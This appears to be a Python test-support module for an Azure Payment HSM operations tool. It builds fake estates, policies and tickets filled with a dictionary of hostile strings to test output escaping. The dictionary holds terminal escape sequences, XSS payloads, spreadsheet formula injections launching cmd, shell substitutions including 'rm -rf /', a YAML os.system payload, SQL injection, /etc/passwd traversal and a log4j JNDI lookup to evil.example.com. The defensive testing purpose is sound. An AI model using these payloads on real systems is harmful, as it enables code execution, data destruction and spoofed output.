"""Text that Azure, a configuration or a snapshot could hold and that would do harm if it were shown as it is.

Every string holds a letter, so that a name made of it is not empty, and none is a state that ARM knows.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, replace
from typing import Any

from ops.checks import collect
from ops.codec import snapshot_from, snapshot_text
from ops.codec.snapshot import Snapshot
from ops.model import arm_id
from ops.model.attachment import nic_slots
from ops.model.estate import ABSENT, FASTPATH_FEATURE, Estate, Gap, Source, Subscription
from ops.model.policy import Contact, Match, Peers, Policy, PoolRule, SupportPolicy
from ops.model.run import Run
from ops.model.ticket import Desks, Plan, ProblemClassification, Receipt, SupportService, Ticket
from ops.run import evaluate
from tests.build import (
    SUB_1,
    SUB_2,
    estate,
    hsm,
    nics,
    peering,
    subnet,
    subnet_id,
    subscription,
    unread_hsm,
    vnet,
    vnet_id,
)
from tests.support.build import SERVICE, desks, planned, ticket

THIRD = "00000000-0000-0000-0000-000000000003"
HOSTILE: Mapping[str, str] = {
    # terminals
    "csi clears the screen": "\x1b[2J\x1b[1;1Hx",
    "csi colours": "\x1b[31;1mred\x1b[0m",
    "osc sets the title": "\x1b]0;owned\x07x",
    "osc 8 link": "\x1b]8;;https://evil.example.com\x1b\\click\x1b]8;;\x1b\\",
    "osc 52 clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07x",
    "dcs": "\x1bP+q544e\x1b\\x",
    "c1 csi": "\x9b31mx\x9c",
    "c1 osc": "\x9d0;owned\x9cx",
    "bell": "x\x07\x07\x07",
    "backspaces": "1 fail\x08\x08\x08\x08\x08\x080 fail",
    "carriage return": "9 fail\r0 fail",
    "carriage return and line feed": "x\r\n0 fail   0 unknown",
    "line feed": "x\n\nnothing to open\n",
    "vertical tab and form feed": "x\x0b0 fail\x0cnothing to open",
    "information separators": "x\x1c0 fail\x1d\x1e\x1f",
    "next line": "x\x850 fail",
    "nul": "x\x00y",
    "delete": "x\x7fy",
    "tabs": "x\t\t\t\ty",
    "shift out": "x\x0ey\x0f",
    # what cannot be seen
    "bidi override": "vnet-\u202edorp\u202c",
    "bidi isolates": "x\u2066\u2067\u2068y\u2069",
    "bidi marks": "x\u200e\u200f\u061cy",
    "zero width": "pay\u200bshield\u200c\u200d\u2060\ufeff",
    "tag characters": "x\U000e0001\U000e0063\U000e006c\U000e0065\U000e0061\U000e0072\U000e007f",
    "variation selectors": "x\ufe0f\ufe00\U000e0100\U000e01ef\u180b",
    "hangul fillers": "x\u3164\u115f\u1160\uffa0",
    "braille blank": "x\u2800\u2800y",
    "line separators": "x\u20280 fail\u2029nothing to open",
    "soft hyphens": "x\u00ad\u00ady",
    "interlinear annotation": "x\ufff9y\ufffaz\ufffb",
    "lone surrogates": "x\ud800y\udfffz\udc80",
    "private use": "x\ue000\U000f0000y",
    "noncharacters": "x\uffff\ufdd0y",
    "spaces of all widths": "x\u00a0\u2003\u3000\u205fy",
    # what is seen wrongly
    "zalgo": "h" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0489" * 40 + "sm",
    "leading marks": "\u0301\u0302x",
    "homoglyphs": "\u0440\u0430\u0443shield-1",
    "right to left words": "\u05e9\u05dc\u05d5\u05dd hsm \u0645\u0631\u062d\u0628\u0627",
    "emoji joined": "\U0001f468\u200d\U0001f469\u200d\U0001f467 x",
    "wide characters": "\u652f\u4ed8\uff28\uff33\uff2d" * 20,
    "ten thousand characters": "hsm " * 2500,
    "one word of ten thousand": "h" * 10_000,
    "ten thousand unseen": "x" + "\u200b" * 10_000 + "y",
    # markdown and html
    "table cells": "x | y || z |\n|---|---|\n| a | b |",
    "escaped pipe": r"x \| y \\| z \\\| a",
    "pipe in code": "`x | y`",
    "trailing backslash": "x\\",
    "link": "[click](https://evil.example.com)",
    "reference link": "[x]\n\n[x]: https://evil.example.com",
    "image": "![x](https://evil.example.com/pixel.png)",
    "autolink": "<https://evil.example.com> https://evil.example.com www.evil.example.com ops@evil.example.com",
    "script": "<script>alert(1)</script>",
    "image with handler": "<img src=x onerror=alert(1)>",
    "details": "</td></tr></table><details open><summary>x",
    "html comment": "<!-- x --><!--",
    "entities": "&lt;b&gt; &#64;octocat &amp; x",
    "emphasis": "**x** _y_ __z__ ~~w~~ *",
    "heading": "# x\n## Microsoft has to act (0)\n---",
    "code span": "`x` ``y`` ` z",
    "many backticks": "x" + "`" * 500 + "y",
    "leading backtick": "`x",
    "code fence": "```\nx\n```\n~~~",
    "mention": "@octocat and @payments/ops",
    "issue": "#1 GH-1 octo/repo#2 octocat@deadbeef",
    "emoji name": ":tada: x :+1:",
    "math": "$x$ $$y$$ \\(z\\)",
    "footnote": "x[^1]\n\n[^1]: y",
    "alert": "> [!WARNING]\n> x",
    # machines that read the output
    "workflow error": "::error file=x,line=1::owned",
    "workflow mask": "x\n::add-mask::eastus",
    "workflow stop": "::stop-commands::x",
    "workflow indented": "   ::warning::x ::error::y",
    "workflow colons": "::::error::::x",
    "old workflow command": "x ##[add-mask]eastus",
    "old workflow group": "##[group]x",
    "old workflow hashes": "x ###[error]y",
    "azure pipelines": "x ##vso[task.setvariable variable=PATH]y",
    "teamcity": "##teamcity[testFailed name='x']",
    # spreadsheets
    "formula": "=HYPERLINK(\"https://evil.example.com\";\"x\")",
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+x",
    "formula behind a quote": '"=1+x',
    "formula behind a semicolon": "x;=1+1;\"=2+2\"; +3",
    "formula in wide letters": "\uff1d1+x",
    "quotes and commas": '","x","",\'',
    # rich, format strings, shells, parsers
    "rich markup": "[bold red]x[/] [/] [link=https://evil.example.com]y[/link]",
    "rich emoji": ":skull: x",
    "braces": "{0} {x!r} {} {{",
    "percent": "%s %d %n %(x)s %",
    "command substitution": "$(touch /tmp/owned) `id` ${HOME}",
    "shell separators": "x; rm -rf / && y || z & | > /dev/null < w",
    "shell quotes": "x' ; id ; ' \" \\' $'\\n' y",
    "shell newline": "x\nid",
    "options": "--ids x --yes",
    "json": '", "severity": "low", "x": "',
    "yaml": "x: &a [*a, !!python/object/apply:os.system [id]] # y",
    "path traversal": "../../../etc/passwd",
    "windows path": "..\\..\\x:y",
    "url in a path": "x?api-version=1#y",
    "sql": "x'; DROP TABLE hsms; --",
    "log4j": "${jndi:ldap://evil.example.com/x}",
    # what could be taken for an answer of ours
    "nothing to open": "nothing to open",
    "0 fail": "0 fail",
    "exit": "0 fail   0 unknown   99 pass",
}  # fmt: skip


@dataclass(frozen=True, slots=True, kw_only=True)
class World:
    """Everything that is shown, with one text in every place where Azure or an operator can put text.

    ``first`` is the plan while the desk knows no ticket, ``plan`` the one after some were opened.
    """

    run: Run
    first: Plan
    plan: Plan
    tickets: tuple[Ticket, ...]
    gaps: tuple[Gap, ...]
    receipts: tuple[Receipt, ...]
    saved: Snapshot


def world_of(text: str) -> World:
    policy = policy_of(text)
    run = evaluate(estate_of(text), policy, collect())
    known: dict[str, tuple[Ticket, ...] | Gap] = dict.fromkeys((SUB_1, SUB_2, _other(text), text), ())
    first = planned(run, _desk(text, known), policy=policy, anyway=True)
    by_hsm = {draft.cause.subject[-2:]: draft for draft in first.to_open}
    tickets = (_ticket(text, name=by_hsm["-3"].name), _ticket(text, resource_id=by_hsm["-2"].resource_id))
    known |= {SUB_1: tickets, SUB_2: Gap(subject=text, what=text, reason=text)}
    return World(
        run=run,
        first=first,
        plan=planned(run, _desk(text, known), policy=policy),
        tickets=tickets,
        gaps=(Gap(subject=text, what=text, reason=text),),
        receipts=(
            Receipt(draft=by_hsm["-3"], ticket=_ticket(text)),
            Receipt(draft=by_hsm["-4"], problem=text, tip=text),
            Receipt(draft=by_hsm["-4"], gone=True),
        ),
        saved=snapshot_from(snapshot_text(run.estate, policy, text), text),
    )


def _desk(text: str, known: Mapping[str, tuple[Ticket, ...] | Gap]) -> Desks:
    service = SupportService(id=SERVICE.id, name=SERVICE.name, display_name=text)
    kinds = (ProblemClassification(id=text, display_name=text),)
    return desks(services=(service,), classifications=kinds, tickets=known)


def _ticket(text: str, **changes: Any) -> Ticket:
    facts: dict[str, Any] = dict.fromkeys(
        ("name", "number", "title", "description", "severity", "status", "classification", "engineer", "plan"), text
    )
    facts |= {"subscription": text, "service": f"Payment HSM {text}", "resource_id": text}
    return ticket(**(facts | changes))


def _other(text: str) -> str:
    """The subscription of a peered VNet, as the id of the VNet spells it."""
    return arm_id.subscription(vnet_id("spoke", text))


def policy_of(text: str) -> Policy:
    """Production in SUB_2 is a declared pool of this name; whom Microsoft calls is called so too."""
    contact = Contact(first_name=text, last_name=text, email=text, country=text, time_zone=text, phone=text)
    pool = PoolRule(name=text, match=Match(subscriptions=(SUB_2,)))
    peers = Peers(outside=(vnet_id(text, SUB_2),))
    return Policy(pools=(pool,), peers=peers, support=SupportPolicy(contact=contact, fastpath_subscription=text))


def estate_of(text: str) -> Estate:
    """HSMs that work, that failed, that are in a state nobody knows, and that could not be read; and their networks."""
    gap = Gap(subject=text, what=text, reason=text)
    words = {"sku": text, "status_message": text, "tags": {text: text}}
    here, there = subnet_id(text, text), subnet_id(text, f"{text}-two", SUB_2)
    one = hsm(text, subnet=here, **words)
    two = hsm(f"{text}-2", subnet=here, stamp=text, **{**words, "provisioning_state": "Failed"})
    three = hsm(f"{text}-3", subnet=here, location=text, **{**words, "provisioning_state": text})
    four = hsm(f"{text}-4", subscription=SUB_2, subnet=there, stamp=ABSENT, zones=(text,), **words)
    five = hsm(f"{text}-5", subscription=SUB_2, subnet=there, location=text, **words)
    nic_1, nic_2, nic_3 = (slot.nic_id for slot in nic_slots(four))
    group = f"{vnet_id(text)}/networkSecurityGroups/{text}"
    near = vnet(
        text,
        tags={"FastPathEnabled": text, text: text},
        location=text,
        subnets=(subnet(text, vnet=text, delegations=(text,), network_security_group=group, route_table=group),),
        peerings=(
            peering(None, name=text, state=text),
            peering(vnet_id(f"{text}-hub"), name=text, state=text),
            peering(vnet_id(f"{text}-gone"), name=text),
            peering(vnet_id("spoke", text), name=text),
        ),
    )
    far = vnet(
        f"{text}-two",
        subscription=SUB_2,
        tags={"fastpathenabled": text},
        subnets=(subnet(text, vnet=f"{text}-two", subscription=SUB_2),),
        peerings=(peering(vnet_id(text, SUB_2), name=text),),
    )
    state = estate(
        *(one, two, three, four, five, near, far),
        unread_hsm(f"{text}-6", reason=text),
        subscription(name=text, features={FASTPATH_FEATURE: "Pending", text: text}),
        subscription(SUB_2, name=text, features={FASTPATH_FEATURE: text}, zones={text: {text: text}}),
        subscription(_other(text), name=text, features={FASTPATH_FEATURE: "Pending"}),
        Subscription(id=THIRD, name=text, gap=replace(gap, subject=f"/subscriptions/{THIRD}", whole_subscription=True)),
        overrides={
            nic_1: gap,
            nic_2: ABSENT,
            nic_3: next(iter(nics(four, provisioning_state=text, subnet_ids=(text,)).values())),
            vnet_id(f"{text}-hub"): gap,
            vnet_id(f"{text}-gone"): ABSENT,
        },
    )
    return replace(state, source=Source(kind="sandbox", name=text), scope=(*state.scope, text), notes=(text, text))
